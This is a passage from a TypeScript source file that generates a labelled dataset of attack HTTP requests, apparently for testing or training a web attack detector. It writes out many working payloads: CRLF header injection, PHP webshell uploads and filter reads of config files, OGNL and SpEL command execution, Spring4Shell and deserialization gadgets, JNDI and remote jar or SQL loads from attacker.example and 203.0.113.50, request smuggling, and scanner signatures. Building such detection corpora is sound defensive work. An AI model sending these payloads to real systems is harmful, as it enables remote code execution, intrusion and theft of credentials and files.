  u("/redirect?url=https://www.example.test/%0d%0a%20Set-Cookie:%20a=b"),
  j("/api/v1/webhooks", { url: "https://hooks.example.test/in", headers: { "X-Custom": "a\r\nSet-Cookie: b=c" } }),
  u("/redirect/%0d%0aLocation:%20https://attacker.example/"),
  u("/set-lang?lang=en%0D%0A%0D%0A%3Chtml%3E%3Cbody%3Efake%20login%3C/body%3E%3C/html%3E"),
  j("/api/v1/mail/send", { from: "x@example.test\nBcc: list@attacker.example", to: "support@example.test", body: "hi" }),
  u("/settings/theme?theme=dark%0d%0aSet-Cookie:%20role=admin;%20Path=/"),
  f("/contact", "email", "me@example.test\r\nBcc: a@attacker.example,b@attacker.example", "name=Ann&message=hello"),
];

// ---- PHP injection ------------------------------------------------------------------------------------------
const php: B[] = [
  q("/index.php", "page", "php://filter/convert.base64-encode/resource=index.php"),
  q("/index.php", "file", "php://filter/read=string.rot13/resource=config.php"),
  raw((r) => { const hs = client(r, "www.example.test"); hs.push(["Content-Type", "application/x-www-form-urlencoded"]); return { method: "POST", uri: "/index.php?page=php://input", headers: hs, body: "<?php system('id'); ?>" }; }),
  q("/index.php", "file", "phar://uploads/avatar.jpg/shell.php"),
  q("/view.php", "img", "phar:///var/www/uploads/2024/05/x.phar"),
  u("/index.php?page=zip://uploads/a.zip%23shell.php"),
  q("/index.php", "page", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
  q("/index.php", "page", "expect://id"),
  q("/tools/eval.php", "code", "system('id');"),
  q("/index.php", "x", "passthru('cat /etc/passwd');"),
  f("/debug.php", "cmd", "shell_exec('uname -a');"),
  f("/plugin.php", "code", "eval(base64_decode('c3lzdGVtKCRfR0VUWydjJ10pOw=='));"),
  f("/wp-admin/admin-ajax.php", "data", "assert($_POST['x']);", "action=import"),
  q("/search.php", "q", "preg_replace('/.*/e','system(\"id\")','x')"),
  q("/index.php", "f", "call_user_func('system','id')"),
  f("/upload.php", "data", "file_put_contents('s.php','<?php system($_GET[0]); ?>')"),
  m("/upload.php", [{ name: "file", filename: "shell.php", type: "application/x-php", value: "<?php @eval($_POST['cmd']); ?>" }]),
  m("/profile/avatar", [{ name: "avatar", filename: "me.php.jpg", type: "image/jpeg", value: "GIF89a<?php echo shell_exec($_GET['c']); ?>" }]),
  m("/upload", [{ name: "file", filename: "x.phtml", type: "text/plain", value: "<?= `$_GET[0]` ?>" }]),
  c("/cart", "cart", 'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}'),
  c("/", "prefs", 'a:2:{i:0;s:3:"foo";i:1;O:7:"Logfile":1:{s:4:"path";s:15:"/var/www/s.php";}}'),
  f("/api/import.php", "data", 'O:+8:"Exploit1":1:{s:3:"cmd";s:2:"id";}'),
  f("/_ignition/execute-solution", "payload", 'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\\0*\\0socket";O:29:"Monolog\\Handler\\BufferHandler":0:{}}'),
  c("/", "remember", b64('O:4:"User":2:{s:4:"role";s:5:"admin";s:2:"id";i:1;}')),
  c("/shop", "cart", 'a:1:{i:0;O:4:"User":2:{s:4:"role";s:5:"admin";s:4:"name";s:3:"eve";}}'),
  u("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
  u("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"),
  u("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"),
  h("/", "User-Agent", "<?php echo shell_exec($_GET['c']); ?>"),
  q("/index.php", "fn", "array_map('system',['id'])"),
  raw((r) => { const hs = client(r, "www.example.test"); hs.push(["Content-Type", "application/x-www-form-urlencoded"]); return { method: "POST", uri: "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", headers: hs, body: "<?php echo md5('probe'); system('id'); ?>" }; }),
  q("/index.php", "page", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=/etc/passwd"),
  q("/index.php", "file", "compress.zlib://phar:///tmp/upload/x.jpg"),
  f("/comment.php", "text", "<?php phpinfo(); ?>"),
  q("/index.php", "lang", "php://fd/3"),
  f("/contact.php", "name", "${@system($_GET[c])}"),
  q("/index.php", "cmd", "$_SERVER['DOCUMENT_ROOT']; highlight_file('/etc/passwd');"),
  j("/api/v1/import", { payload: 'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":1:{s:9:"\\u0000*\\u0000events";O:15:"Faker\\Generator":0:{}}' }),
  q("/index.php", "page", "glob:///var/www/html/*"),
  q("/index.php", "callback", "create_function('','system(\"id\");')"),
  u("/index.php?page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3D..%2Fconfig.php"),
  f("/xmlrpc.php", "a", "<?=system($_REQUEST[1]);?>"),
  q("/cache.php", "key", "proc_open('id',array(),$p)"),
  u("/index.php?page=pHp://FilTer/convert.base64-encode/resource=wp-config.php"),
  j("/api/v1/cms/blocks", { type: "custom_code", code: "<?php $f=$_GET['f']; @include($f); ?>" }),
  h("/account", "X-Session", b64('O:8:"Session":1:{s:7:"handler";O:9:"FileWrite":2:{s:4:"path";s:12:"/tmp/x.php";s:4:"data";s:16:"<?php phpinfo();";}}')),
];

// ---- Java / Spring --------------------------------------------------------------------------------------------
const ser = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7eHA=";
const java: B[] = [
  c("/", "rememberMe", ser, true),
  j("/api/v1/session/restore", { state: ser }),
  f("/faces/login.xhtml", "javax.faces.ViewState", ser, "login=1"),
  q("/api/v1/cache/load", "blob", "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b103000249000473697a654c000a636f6d70617261746f727400164c6a6176612f7574696c2f436f6d70617261746f723b"),
  h("/api/v1/objects", "X-Java-Object", ser),
  h("/struts2-showcase/index.action", "Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#c=#context['com.opensymphony.xwork2.ActionContext.container']).(#o=#c.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#o.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).(#p=new java.lang.ProcessBuilder({'id'})).(#p.start())}", "POST"),
  q("/login.action", "redirect", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}"),
  q("/index.action", "name", "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}"),
  u("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/"),
  q("/api/v1/search", "sort", "T(java.lang.Runtime).getRuntime().exec('id')"),
  q("/api/v1/eval", "expr", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
  h("/functionRouter", "spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")", "POST"),
  j("/actuator/gateway/routes/hax", { id: "hax", filters: [{ name: "AddResponseHeader", args: { name: "Result", value: "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}" } }], uri: "http://example.test" }),
  q("/page.jsp", "msg", "${pageContext.request.getSession().setAttribute(\"admin\",true)}"),
  q("/page.jsp", "msg", "${applicationScope}"),
  q("/page.jsp", "x", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"),
  q("/faces/home.xhtml", "q", "#{facesContext.externalContext.request.getServletContext().getRealPath('/')}"),
  fr("/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat="),
  u("/greeting?class.module.classLoader.DefaultAssertionStatus=nonsense"),
  u("/register?class.classLoader.URLs[0]=jar:http://203.0.113.50/x.jar!/"),
  fr("/user/update", "name=bob&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
  j("/api/v1/config", { "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "ldap://203.0.113.50:1389/x", autoCommit: true }),
  j("/api/v1/settings", `["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://attacker.example/x.sql'"}]`),
  x("/api/v1/import", `<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>`),
  x("/wls-wsat/CoordinatorPortType", `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>`, "text/xml"),
  x("/api/v1/config/yaml", `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/x.jar"]]]]`, "application/x-yaml"),
  j("/api/v1/scripts/run", { script: "'id'.execute().text" }),
  j("/actuator/env", { name: "spring.datasource.hikari.connection-test-query", value: "CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException {Runtime.getRuntime().exec(cmd);return null;}'; CALL EXEC('id');" }),
  j("/api/v1/report", { "@class": "org.springframework.context.support.ClassPathXmlApplicationContext", configLocation: "http://203.0.113.50/beans.xml" }),
  j("/api/v1/items", { item: { "@type": "java.lang.AutoCloseable" }, x: { "@type": "org.apache.commons.io.input.BOMInputStream" } }),
  q("/api/v1/search", "q", "new java.lang.ProcessBuilder('id').start()"),
  q("/api/v1/script", "expr", "new javax.script.ScriptEngineManager().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')"),
  u("/index.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{'id'})).start()}"),
  u("/integration/saveGangster.action?name=%25%7B%28%23dm%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29.%28%23_memberAccess%3D%23dm%29.%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D"),
  c("/app", "JSESSIONID", "rO0ABXQADmphdmEubGFuZy5SdW50aW1l"),
  m("/api/v1/upload", [{ name: "data", filename: "session.ser", type: "application/x-java-serialized-object", value: ser }]),
  j("/api/v1/jdbc/test", { url: "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://203.0.113.50/a.sql'" }),
  j("/api/v1/jdbc/test", { url: "jdbc:mysql://203.0.113.50:3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor" }),
  q("/search", "q", "${T(java.lang.System).getProperty('user.dir')}"),
  h("/api/v1/users", "X-Forwarded-Prefix", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
  j("/api/v1/eval", { expression: "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd').getInputStream(), T(java.nio.charset.Charset).defaultCharset())" }),
  q("/api/v1/items", "filter", "java.lang.Runtime.getRuntime().exec('id')"),
  q("/api/v1/format", "template", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
  q("/api/v1/format", "template", "${url:UTF-8:http://203.0.113.50/t4s}"),
  j("/api/v1/datasource", { "@class": "com.zaxxer.hikari.HikariConfig", metricRegistry: "ldap://203.0.113.50:1389/h" }),
  fr("/login.action", "username=%25%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%7D&password=x"),
];

// ---- Protocol violations / request smuggling ---------------------------------------------------------------------
type P = { method?: string; uri?: string; headers: Header[]; body?: string; v?: string };
const pr = (fn: (r: Rng, base: Header[]) => P): B => (r) => {
  const host = pick(r, SHOP);
  const base: Header[] = [["Host", host], ["User-Agent", pick(r, [...BROWSERS.slice(0, 3), "curl/8.5.0", "python-requests/2.31.0"])], ["Accept", "*/*"]];
  const p = fn(r, base);
  return { method: p.method ?? "POST", uri: p.uri ?? "/", headers: p.headers, body: p.body, ...(p.v ? { http_version: p.v } : {}) } as Shape;
};
const FORM: Header = ["Content-Type", "application/x-www-form-urlencoded"];
const protocol: B[] = [
  pr((r, b) => ({ uri: "/", headers: [...b, ["Content-Length", "6"], ["Transfer-Encoding", "chunked"]], body: "0\r\n\r\nG" })),
  pr((r, b) => ({ uri: "/api/v1/cart", headers: [...b, ["Content-Type", "application/json"], ["Transfer-Encoding", "chunked"], ["Content-Length", "4"]], body: "5c\r\nGPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n" })),
  pr((r, b) => ({ headers: [...b, FORM, ["Transfer-Encoding", "chunked, identity"]], body: "3\r\na=1\r\n0\r\n\r\n" })),
  pr((r, b) => ({ headers: [...b, FORM, ["Transfer-Encoding", "xchunked"], ["Content-Length", "3"]], body: "a=1" })),
  pr((r, b) => ({ headers: [...b, FORM, ["Transfer-Encoding", " chunked"], ["Content-Length", "3"]], body: "a=1" })),
  pr((r, b) => ({ headers: [...b, FORM, ["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"]], body: "3\r\na=1\r\n0\r\n\r\n" })),
  pr((r, b) => ({ headers: [...b, FORM, ["Transfer-Encoding", "\tchunked"]], body: "3\r\na=1\r\n0\r\n\r\n" })),
  pr((r, b) => ({ uri: "/login", headers: [...b, FORM, ["Content-Length", "8"], ["Content-Length", "40"]], body: "user=bob" })),
  pr((r, b) => ({ uri: "/login", headers: [...b, FORM, ["Content-Length", "+8"]], body: "user=bob" })),
  pr((r, b) => ({ uri: "/login", headers: [...b, FORM, ["Content-Length", "8, 8"]], body: "user=bob" })),
  pr((r, b) => ({ uri: "/login", headers: [...b, FORM, ["Content-Length", "-1"]], body: "user=bob" })),
  pr((r, b) => ({ uri: "/login", headers: [...b, FORM, ["Content-Length", "0x8"]], body: "user=bob" })),
  pr((r, b) => ({ method: "GET", uri: "/search?q=%zz%1", headers: b })),
  pr((r, b) => ({ method: "GET", uri: "/%gg/admin", headers: b })),
  pr((r, b) => ({ method: "GET", uri: "/search?q=abc%", headers: b })),
  pr((r, b) => ({ uri: "/comment", headers: [...b, FORM], body: "text=50%+off%%21&x=%G1" })),
  pr((r, b) => ({ method: "GET", uri: "/index.php%00.jpg", headers: b })),
  pr((r, b) => ({ method: "GET", uri: "/download?file=report%00.pdf", headers: b })),
  pr((r, b) => ({ uri: "/login", headers: [...b, FORM], body: "user=admin\u0000&password=x" })),
  pr((r, b) => ({ uri: "/upload", headers: [...b, ["Content-Type", "multipart/form-data"]], body: "------x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\nhello\r\n------x--\r\n" })),
  pr((r, b) => ({ uri: "/upload", headers: [...b, ["Content-Type", "multipart/form-data; boundary=AaB03x"]], body: "--XyZ99\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nhello\r\n--XyZ99--\r\n" })),
  pr((r, b) => ({ uri: "/upload", headers: [...b, ["Content-Type", "multipart/form-data; boundary=AaB03x"]], body: "--AaB03x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nno closing boundary here\r\n" })),
  pr((r, b) => ({ uri: "/upload", headers: [...b, ["Content-Type", "multipart/form-data; boundary=\"AaB03x"]], body: "--AaB03x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nx\r\n--AaB03x--\r\n" })),
  pr((r, b) => ({ uri: "/upload", headers: [...b, ["Content-Type", "multipart/form-data; boundary=a; boundary=b"]], body: "--a\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nx\r\n--a--\r\n--b\r\nContent-Disposition: form-data; name=\"g\"\r\n\r\ny\r\n--b--\r\n" })),
  pr((r, b) => ({ uri: "/upload", headers: [...b, ["Content-Type", "multipart/form-data; boundary="]], body: "--\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nx\r\n----\r\n" })),
  pr((r, b) => ({ method: "GET", uri: "/", headers: [...b, ["Host", "internal.example.test"]] })),
  pr((r, b) => ({ method: "GET", uri: "/admin", headers: [["Host", "www.example.test"], ["Host", "localhost"], ...b.slice(1)] })),
  pr((r, b) => ({ method: "TRACE", uri: "/", headers: b })),
  pr((r, b) => ({ method: "TRACK", uri: "/", headers: b })),
  pr((r, b) => ({ method: "DEBUG", uri: "/default.aspx", headers: [...b, ["Command", "stop-debug"]] })),
  pr((r, b) => ({ method: "GETS", uri: "/", headers: b })),
  pr((r, b) => ({ method: "JEFF", uri: "/", headers: b })),
  pr((r, b) => ({ method: "CONNECT", uri: "10.0.0.12:22", headers: b })),
  pr((r, b) => ({ method: "GET", uri: "/files/big.iso", headers: [...b, ["Range", "bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7,5-8,5-9,5-10,5-11,5-12,5-13,5-14,5-15,5-16,5-17,5-18,5-19,5-20,5-21,5-22,5-23,5-24,5-25,5-26,5-27,5-28,5-29,5-30"]] })),
  pr((r, b) => ({ method: "GET", uri: "/", headers: [...b, ["Transfer-Encoding", "chunked"]], body: "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n" })),
  pr((r, b) => ({ uri: "/api/v1/ping", headers: [...b, ["Content-Length", "0"]], body: "GET /admin/users HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x" })),
  pr((r, b) => ({ headers: [...b, FORM, ["Transfer-Encoding ", "chunked"], ["Content-Length", "3"]], body: "a=1" })),
  pr((r, b) => ({ method: "GET", uri: "/", headers: [...b, ["Connection", "Upgrade, HTTP2-Settings"], ["Upgrade", "h2c"], ["HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"]] })),
  pr((r, b) => ({ method: "GET", uri: "/admin", headers: [...b, ["Connection", "close, X-Forwarded-For, X-Real-IP"], ["X-Forwarded-For", "203.0.113.9"]] })),
  pr((r, b) => ({ method: "GET", uri: "/search?q=%C0%80", headers: b })),
  pr((r, b) => ({ uri: "/api/v1/upload", headers: [...b, ["Content-Type", "application/json"], ["Content-Type", "text/plain"]], body: "{\"a\":1}" })),
  pr((r, b) => ({ uri: "/login", headers: [...b, ["Content-Type", "application/x-www-form-urlencoded; charset=ibm037"]], body: "%A4%A2%85%99=%81%84%94%89%95" })),
  pr((r, b) => ({ uri: "/login", headers: [...b, FORM, ["Content-Length", "100"]], body: "user=bob" })),
  pr((r, b) => ({ headers: [...b, FORM, ["Transfer-Encoding", "chunked"]], body: "zz\r\na=1\r\n0\r\n\r\n" })),
  pr((r, b) => ({ method: "GET", uri: "/", headers: [...b.filter(([n]) => n !== "User-Agent"), ["User-Agent", "Mozilla/5.0\u0000"]] })),
  pr((r, b) => ({ method: "GET", uri: "/", v: "1.7", headers: b })),
  pr((r, b) => ({ method: "GET", uri: "/", headers: [...b, ["Cookie", "session=abc\u0000def"]] })),
  pr((r, b) => ({ method: "GET", uri: "/index.html?a=1%2", headers: b })),
];

// ---- Scanners and attack tools --------------------------------------------------------------------------------------
const sc = (ua: string, uri: string, method = "GET", extra: Header[] = []): B => (r) => ({
  method, uri, headers: [["Host", pick(r, SHOP)], ["User-Agent", ua], ["Accept", "*/*"], ...extra],
});
const pathProbe = (uri: string): B => (r) => ({
  method: "GET", uri, headers: client(r, pick(r, SHOP)),
});
const scanner: B[] = [
  sc("sqlmap/1.7.12#stable (https://sqlmap.org)", "/products?id=1"),
  sc("sqlmap/1.8.2#stable (https://sqlmap.org)", "/api/v1/items?page=2"),
  sc("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000341)", "/"),
  sc("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:003164)", "/cgi-bin/test-cgi"),
  sc("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "/"),
  sc("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "/nmaplowercheck1716021337"),
  sc("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "/"),
  sc("Wfuzz/3.1.0", "/admin.php"),
  sc("gobuster/3.6", "/backup"),
  sc("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "/old/"),
  sc("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "/.git/config"),
  sc("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "/actuator/env"),
  sc("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "/wp-content/plugins/contact-form-7/readme.txt"),
  sc("Fuzz Faster U Fool v2.1.0-dev", "/config.php.bak"),
  sc("feroxbuster/2.10.1", "/.svn/entries"),
  sc("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0 Safari/537.36", "/", "GET", [["Acunetix-Product", "WVS/15.0 (Acunetix Web Vulnerability Scanner - Free Edition)"], ["Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"]]),
  sc("Mozilla/5.0 (compatible; Netsparker)", "/login"),
  sc("Arachni/v1.5.1", "/search?q=arachni_text"),
  sc("w3af.org", "/index.php"),
  sc("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)", "/"),
  sc("Mozilla/5.0 (compatible; Nessus SOAP)", "/sdk"),
  sc("ZmEu", "/phpmyadmin/scripts/setup.php"),
  sc("Morfeus Fucking Scanner", "/user/soapCaller.bs"),
  sc("Mozilla/5.0 zgrab/0.x", "/"),
  sc("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0 Safari/537.36 jaeles", "/api/swagger.json"),
  sc("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/92.0 Safari/537.36 dirsearch", "/.env.backup"),
  sc("commix/v3.9-stable (https://commixproject.com)", "/tools/ping?host=127.0.0.1"),
  sc("Mozilla/5.0 (compatible; WhatWeb/0.5.5; +https://www.morningstarsecurity.com/research/whatweb)", "/"),
  sc("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1) Havij", "/products?id=1"),
  sc("Mozilla/5.0 (compatible; Skipfish/2.10b)", "/sfi9876"),
  sc("Paros/3.2.13", "/"),
  sc("Mozilla/5.0 (Hydra)", "/admin/login", "POST", [["Content-Type", "application/x-www-form-urlencoded"]]),
  sc("Jorgee", "/pma/index.php"),
  sc("python-requests/2.31.0", "/?url=http://cu8k2n3lrg.oast.fun"),
  pathProbe("/.git/HEAD"),
  pathProbe("/.env"),
  pathProbe("/.aws/credentials"),
  pathProbe("/wp-config.php.bak"),
  pathProbe("/backup.sql"),
  pathProbe("/.DS_Store"),
  pathProbe("/server-status"),
  pathProbe("/HNAP1/"),
  pathProbe("/boaform/admin/formLogin?username=admin&psd=admin"),
  pathProbe("/solr/admin/cores?action=STATUS&wt=json"),
  pathProbe("/phpinfo.php"),
  sc("Mozilla/5.0 (compatible; Burp Scanner)", "/", "GET", [["X-Forwarded-Host", "g0n9wz.burpcollaborator.net"]]),
  sc("xsstrike", "/search?q=d3v%3Cxss%3E"),
  sc("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "/wp-admin/setup-config.php?step=1"),
];

export const ATTACK_CATEGORIES: Record<string, B[]> = { sqli, xss, cmdi, lfi, rfi, ssrf, xxe, nosqli, ssti, jndi, crlf, php, java, protocol, scanner };

export function attacks(): Req[] {
  const r = rng(0xa77ac4);
  const out: Req[] = [];
  for (const [cat, list] of Object.entries(ATTACK_CATEGORIES)) {
    list.forEach((b, i) => {
      const s = b(r);
      out.push({ id: `a-${cat}-${String(i + 1).padStart(3, "0")}`, label: "attack", category: cat, ...s });
    });
  }
  return out;
}
// unused helpers kept referenced for type-checking completeness
void hex; void alnum; void uuid; void int;
